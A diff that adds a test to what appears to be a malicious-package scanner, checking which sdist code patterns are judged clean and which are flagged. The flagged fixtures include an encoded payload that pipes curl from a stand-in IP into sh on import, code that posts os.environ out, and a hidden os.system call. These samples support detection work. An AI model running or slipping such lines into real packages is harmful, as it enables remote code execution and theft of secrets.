@@ -882,3 +882,66 @@ def test_sixth_held_out_batch_shapes() -> None:
         assert verdict(pkg)[0] != "clean", rel
     chmod = setup.replace("if 'sdist' in sys.argv:\n    ", "").replace("-R a+rX .", "+x helperlib/run")
     assert verdict(sdist("helperlib", "0.1", {"setup.py": chmod, "helperlib/__init__.py": ""}))[0] != "clean"
+
+
+def test_seventh_held_out_batch_shapes() -> None:
+    """Causes behind the seventh held-out batch's false positives: the ez_setup/distribute_setup bootstrap
+    that only runs when setuptools is missing (nose), an environment handed to a child process counted as
+    data in what the call returns (rapid-mlx), a decoded ECR password in a command list built before the
+    call (sagemaker-serve), an unused setup.py helper that evals (peppy), ``request as urllib2`` read as a
+    hiding alias (iso4217), an annotated class attribute holding a URL (pilmoji), and Python 3.12's type
+    syntax, which made a file unparsable and sent it to the text fallback (mistral-vibe)."""
+    bootstrap = ("import os, subprocess, urllib.request\nURL = 'https://pypi.python.org/packages/source/d/distribute/'\n"
+                 "def use_setuptools():\n    data = urllib.request.urlopen(URL + 'distribute.tar.gz').read()\n"
+                 "    open('distribute.tar.gz', 'wb').write(data)\n"
+                 "    subprocess.call(['python', 'distribute.tar.gz'])\n")
+    setup = ("try:\n    import setuptools\nexcept ImportError:\n    from distribute_setup import use_setuptools\n"
+             "    use_setuptools()\nfrom setuptools import setup\n"
+             "def get_static(name, condition):\n    return [i for i in filter(lambda x: eval(condition), [name])]\n"
+             "setup(name='helperlib', version='0.1', packages=['helperlib'])\n")
+    files = {
+        "helperlib/cli.py": ("import os, subprocess, requests\n\ndef spawn():\n"
+                             "    env = os.environ.copy()\n"
+                             "    proc = subprocess.Popen(['server'], env=env)\n    return proc, 'http://127.0.0.1:8000'\n\n"
+                             "def models():\n    proc, base_url = spawn()\n"
+                             "    return requests.get(f'{base_url}/v1/models', timeout=2)\n"),
+        "helperlib/ecr.py": ("import base64, subprocess\n\ndef login(token, host):\n"
+                             "    username, password = base64.b64decode(token).decode().split(':')\n"
+                             "    login_command = ['docker', 'login', '-u', username, '-p', password, host]\n"
+                             "    subprocess.run(login_command, check=True, capture_output=True, text=True)\n"),
+        "helperlib/source.py": ("from typing import ClassVar\n\nclass DiscordEmojiSource:\n"
+                                "    BASE_DISCORD_EMOJI_URL: ClassVar[str] = 'https://cdn.discordapp.com/emojis/'\n\n"
+                                "    def url(self, i):\n        return self.BASE_DISCORD_EMOJI_URL + str(i)\n"),
+        "helperlib/sandbox.py": ("import base64, zlib\ntype RequestOption = str\n\n"
+                                 "async def run[T](\n    sandbox: T,\n) -> T:\n    return sandbox\n\n"
+                                 "_MATERIALIZE = '''\nimport base64, sys, zlib\n"
+                                 "source = zlib.decompress(base64.urlsafe_b64decode(sys.argv[2]))\n"
+                                 "exec(compile(source, 'helper', 'exec'))\n'''\n"),
+    }
+    sdist_files = {"setup.py": setup, "distribute_setup.py": bootstrap, "helperlib/__init__.py": ""}
+    result, findings = verdict(sdist("helperlib", "0.1", sdist_files))
+    assert result == "clean", findings
+    alias = "from urllib import request as urllib2\nfrom setuptools import setup\nsetup(name='helperlib')\n"
+    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": alias, "helperlib/__init__.py": ""}))
+    assert result == "clean", findings
+    init = "from . import cli, ecr, source, sandbox\n"
+    for rel, code in files.items():
+        result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": init,
+                                                               rel: code}))
+        assert result == "clean", (rel, findings)
+    # the bootstrap called outside the fallback, a helper that setup.py calls, an alias that hides the name,
+    # the environment itself sent, and 3.12 code that runs a decoded payload on import are still judged
+    fallback = "except ImportError:\n    from distribute_setup import use_setuptools\n    use_setuptools()"
+    called = setup.replace(fallback, "except ImportError:\n    pass\nfrom distribute_setup import use_setuptools\n"
+                                     "use_setuptools()")
+    assert verdict(sdist("helperlib", "0.1", {**sdist_files, "setup.py": called}))[0] != "clean"
+    used = setup.replace("setup(name=", "get_static('x', __import__('base64').b64decode('MQ==').decode())\nsetup(name=")
+    assert verdict(sdist("helperlib", "0.1", {**sdist_files, "setup.py": used}))[0] != "clean"
+    hidden = alias.replace("from urllib import request as urllib2", "from os import system as s\ns('id')")
+    assert verdict(sdist("helperlib", "0.1", {"setup.py": hidden, "helperlib/__init__.py": ""}))[0] != "clean"
+    sent = files["helperlib/cli.py"].replace("timeout=2)", "data=dict(os.environ))")
+    modern = ("import base64\ntype Blob = bytes\n\ndef run[T](x: T) -> T:\n    return x\n\n"
+              "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovLzEuMi4zLjQveCB8IHNoIik='))\n")
+    for rel, code in (("helperlib/cli.py", sent), ("helperlib/sandbox.py", modern)):
+        pkg = sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": init, rel: code})
+        assert verdict(pkg)[0] != "clean", rel
